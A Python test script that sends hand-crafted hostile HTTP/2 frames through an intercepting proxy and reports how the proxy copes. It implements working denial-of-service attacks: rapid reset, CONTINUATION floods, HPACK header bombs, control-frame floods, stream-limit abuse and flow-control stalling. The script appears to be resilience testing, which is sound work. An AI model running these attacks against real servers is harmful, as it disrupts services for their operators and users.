"""Hostile clients of HTTP/2, in frames made by hand, through a proxy that intercepts.

    abuse.py ATTACK PROXY_PORT ORIGIN AUTHORITY SECONDS

ORIGIN: host:port of an origin of HTTP/2 with /bytes/1000 and /bytes/1000000; AUTHORITY: a file with the certificate to trust.
Repeats the attack, on new connections, for so long, and prints in JSON how the connections ended, which streams were reset
and with what statuses requests were answered. Needs python3-hpack (python3-h2 brings it).
"""

import collections
import dataclasses
import json
import select
import socket
import ssl
import struct
import sys
import time

import hpack

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CODES = ["NO_ERROR", "PROTOCOL_ERROR", "INTERNAL_ERROR", "FLOW_CONTROL_ERROR", "SETTINGS_TIMEOUT", "STREAM_CLOSED",
         "FRAME_SIZE_ERROR", "REFUSED_STREAM", "CANCEL", "COMPRESSION_ERROR", "CONNECT_ERROR", "ENHANCE_YOUR_CALM"]
# What a connection of an attack that is to be ended has for its end, in seconds.
PATIENCE = 5

name, port, origin, authority, seconds = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4], float(sys.argv[5])


# Frames (RFC 9113, section 4.1) and field sections (RFC 7541).


def frame(kind, flags=0, stream=0, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, pattern=0):
    most = (1 << bits) - 1
    if value < most:
        return bytes([pattern | value])
    encoded = [pattern | most]
    value -= most
    while value >= 128:
        encoded.append(value % 128 + 128)
        value //= 128
    return bytes(encoded + [value])


def text(value):
    return integer(len(value), 7) + value


def field(name, value, indexed=False):
    return (b"\x40" if indexed else b"\x00") + text(name) + text(value)


def request(method="GET", path="/bytes/1000", more=b""):
    """A field section; the first two fields and the names of the others are in the static table."""
    first = {"GET": b"\x82", "POST": b"\x83"}[method]
    return first + b"\x87" + b"\x04" + text(path.encode()) + b"\x01" + text(origin.encode()) + more


def get(stream, path="/bytes/1000", more=b""):
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, request(path=path, more=more))


def streams(count):
    return range(1, 2 * count, 2)


def section(stream, block):
    """A whole field section in as few frames as there can be."""
    parts = [block[place:place + 16384] for place in range(0, len(block), 16384)]
    frames = [frame(HEADERS, END_STREAM, stream, parts[0])] + [frame(CONTINUATION, 0, stream, part) for part in parts[1:]]
    last = bytearray(frames[-1])
    last[4] |= END_HEADERS
    return b"".join(frames[:-1]) + bytes(last)


def windows(initial):
    """SETTINGS with SETTINGS_INITIAL_WINDOW_SIZE."""
    return struct.pack(">HI", 4, initial)


@dataclasses.dataclass
class Attack:
    frames: bytes
    settings: bytes = b""
    # Whether our end says that it has taken the proxy's SETTINGS.
    acknowledges: bool = True
    # Whether it never ends a connection: it has `width` of them, and keeps what it has got.
    holds: bool = False
    width: int = 1
    reads: bool = True


# One field of nearly a whole table, then its index over and over.
bomb = field(b"x", b"y" * 4000, indexed=True) + b"\xbe" * 60_000
big = [get(stream, "/bytes/1000000") for stream in streams(100)]

ATTACKS = {
    "rapid reset": lambda: Attack(
        b"".join(get(stream) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8)) for stream in streams(5_000))),
    "windows that grow by nothing": lambda: Attack(
        b"".join(get(stream) + frame(WINDOW_UPDATE, 0, stream, bytes(4)) for stream in streams(5_000))),
    "CONTINUATION without end": lambda: Attack(
        frame(HEADERS, END_STREAM, 1, request()) + frame(CONTINUATION, 0, 1, field(b"x", b"y")) * 10_000),
    "CONTINUATION without content": lambda: Attack(
        frame(HEADERS, END_STREAM, 1, request()) + frame(CONTINUATION, 0, 1) * 10_000),
    "large CONTINUATION": lambda: Attack(
        frame(HEADERS, END_STREAM, 1, request()) + frame(CONTINUATION, 0, 1, field(b"x", b"y" * 16_000)) * 100),
    "a table of 4 GiB": lambda: Attack(
        frame(HEADERS, END_STREAM | END_HEADERS, 1, integer((1 << 32) - 1, 5, 0x20) + request())),
    "a list of 100 KiB": lambda: Attack(
        b"".join(section(stream, request(more=field(b"x", b"y" * 4000, indexed=True) + b"\xbe" * 25))
                 for stream in streams(50)), holds=True),
    "a list of 240 MB": lambda: Attack(b"".join(section(stream, request(more=bomb)) for stream in streams(20))),
    "streams beyond the limit": lambda: Attack(b"".join(get(stream) for stream in streams(5_000))),
    "streams beyond a limit that was not acknowledged": lambda: Attack(
        b"".join(get(stream) for stream in streams(5_000)), acknowledges=False),
    "PING": lambda: Attack(frame(PING, 0, 0, bytes(8)) * 20_000),
    "SETTINGS": lambda: Attack(frame(SETTINGS) * 20_000),
    "SETTINGS with entries": lambda: Attack(frame(SETTINGS, 0, 0, windows(65_535) * 30) * 20_000),
    "PRIORITY": lambda: Attack(
        b"".join(frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 1)) for stream in streams(20_000))),
    "WINDOW_UPDATE": lambda: Attack(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 20_000),
    "unknown frames": lambda: Attack(frame(0xBB, 0, 0) * 20_000),
    "empty DATA": lambda: Attack(frame(HEADERS, END_HEADERS, 1, request("POST")) + frame(DATA, 0, 1) * 20_000),
    "empty HEADERS": lambda: Attack(
        b"".join(frame(HEADERS, END_STREAM | END_HEADERS, stream) for stream in streams(5_000))),
    "windows that never open": lambda: Attack(b"".join(big), holds=True, width=4),
    "windows of nothing": lambda: Attack(b"".join(big), settings=windows(0), holds=True, width=4),
    "windows of one byte": lambda: Attack(
        b"".join(big) + b"".join(frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 1)) for stream in streams(100)) * 10,
        settings=windows(0), holds=True, width=4),
    "answers that nobody reads": lambda: Attack(
        frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", (1 << 31) - 65_536)) + b"".join(big),
        settings=windows((1 << 31) - 1), holds=True, width=4, reads=False),
}


class Connection:
    def __init__(self, attack):
        plain = socket.create_connection(("127.0.0.1", port), timeout=10)
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        plain.sendall(f"CONNECT {origin} HTTP/1.1\r\nHost: {origin}\r\n\r\n".encode())
        head = b""
        while not head.endswith(b"\r\n\r\n"):
            byte = plain.recv(1)
            if not byte:
                raise OSError(f"no tunnel: {head!r}")
            head += byte
        if not head.startswith(b"HTTP/1.1 200 "):
            raise OSError(f"no tunnel: {head!r}")
        self.tls = context.wrap_socket(plain, server_hostname=origin.rpartition(":")[0])
        if self.tls.selected_alpn_protocol() != "h2":
            raise OSError("no HTTP/2")
        self.tls.setblocking(False)
        self.attack = attack
        self.out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, payload=attack.settings)
        if attack.acknowledges:
            self.out += frame(SETTINGS, ACK)
        self.out += attack.frames
        self.sent = 0
        self.input = b""
        self.decoder = hpack.Decoder()
        self.code = None
        self.isEnded = False
        self.isBroken = False

    def turn(self, reads):
        """Reads and sends what goes without waiting."""
        if reads:
            self.receive()
        if self.isEnded or self.isBroken or self.sent == len(self.out):
            return
        try:
            self.sent += self.tls.send(self.out[self.sent:self.sent + 16384])
        except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
            pass
        except OSError:
            # What the proxy has said before is still to be read.
            self.isBroken = True

    def receive(self):
        while not self.isEnded:
            try:
                some = self.tls.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                some = b""
            self.isEnded = not some
            self.input += some
            self.read_frames()

    def read_frames(self):
        place = 0
        while len(self.input) - place >= 9:
            length = int.from_bytes(self.input[place:place + 3], "big")
            if len(self.input) - place < 9 + length:
                break
            kind, flags = self.input[place + 3], self.input[place + 4]
            payload = self.input[place + 9:place + 9 + length]
            place += 9 + length
            if kind == GOAWAY:
                self.code = CODES[int.from_bytes(payload[4:8], "big")]
            elif kind == RST_STREAM:
                resets[CODES[int.from_bytes(payload, "big")]] += 1
            elif kind == HEADERS and flags & END_HEADERS:
                for field_name, value in self.decoder.decode(payload):
                    if field_name == ":status":
                        statuses[value] += 1
                    elif field_name == "proxy-status":
                        reasons[value] += 1
        self.input = self.input[place:]

    @property
    def end(self):
        if not self.isEnded:
            return "open" if self.code is None else f"open after {self.code}"
        return self.code or "closed"


context = ssl.create_default_context(cafile=authority)
context.set_alpn_protocols(["h2"])
attack = ATTACKS[name]()
ends, resets, statuses, reasons = (collections.Counter() for _ in range(4))
sent = 0
deadline = time.monotonic() + seconds

while True:
    connections = [Connection(attack) for _ in range(attack.width)]
    # Who leaves without a word would be taken for one that pins its certificate.
    patience = max(deadline, time.monotonic() + (1 if attack.holds else PATIENCE))
    while not all(connection.isEnded for connection in connections) and time.monotonic() < patience:
        open_ones = [connection for connection in connections if not connection.isEnded]
        reading = [connection.tls for connection in open_ones if attack.reads]
        writing = [connection.tls for connection in open_ones
                   if not connection.isBroken and connection.sent < len(connection.out)]
        select.select(reading, writing, [], 0.05)
        for connection in open_ones:
            connection.turn(attack.reads)
    for connection in connections:
        if not attack.reads:
            connection.receive()
        ends[connection.end] += 1
        sent += connection.sent
        connection.tls.close()
    if time.monotonic() >= deadline:
        break

print(json.dumps({"ends": ends, "resets": resets, "statuses": statuses, "reasons": reasons, "bytes": sent}))
